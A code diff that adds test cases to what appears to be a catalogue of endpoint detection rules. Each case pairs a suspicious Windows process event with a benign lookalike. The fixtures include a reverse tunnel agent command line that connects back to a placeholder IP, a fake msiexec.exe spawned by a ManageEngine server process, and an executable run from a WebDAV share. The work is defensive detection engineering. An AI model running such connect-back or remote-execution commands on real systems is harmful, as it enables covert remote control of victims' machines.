@@ -121,6 +121,12 @@ const cases: CatalogueCase[] = [
   ['Reverse Tunnel Agent Started With Its Connect-Back Arguments', 'high', 'command-and-control',
     proc('C:\\Windows\\Temp\\agent.exe', 'agent.exe  -connect 203.0.113.99:11601 -ignore-cert'),
     proc('C:\\Program Files\\Vendor\\sync.exe', 'sync.exe -connect https://sync.example.com -profile default')],
+  ['Program Named After A Windows Binary Started By A Server Process Outside The System Folders', 'high', 'initial-access',
+    proc('C:\\Program Files\\ManageEngine\\ServiceDesk\\bin\\msiexec.exe', 'msiexec.exe', 'C:\\Program Files\\ManageEngine\\ServiceDesk\\jre\\bin\\java.exe'),
+    proc('C:\\Windows\\System32\\msiexec.exe', 'msiexec.exe /i C:\\Temp\\agent.msi /qn', 'C:\\Program Files\\ManageEngine\\ServiceDesk\\jre\\bin\\java.exe')],
+  ['Program Started From A WebDAV Share', 'high', 'stealth',
+    proc('\\\\198.51.100.77@80\\DavWWWRoot\\share\\signal.exe', '"\\\\198.51.100.77@80\\DavWWWRoot\\share\\signal.exe" ', EXPL),
+    proc('\\\\fileserver\\apps\\tool.exe', '"\\\\fileserver\\apps\\tool.exe"', EXPL)],
   ['Quick Assist Session Given Full Control', 'low', 'command-and-control',
     quickAssist('{"action":"setsharingmode","mode":"FullControl"}'), quickAssist('{"action":"setsharingmode","mode":"ViewOnly"}')],
 ];
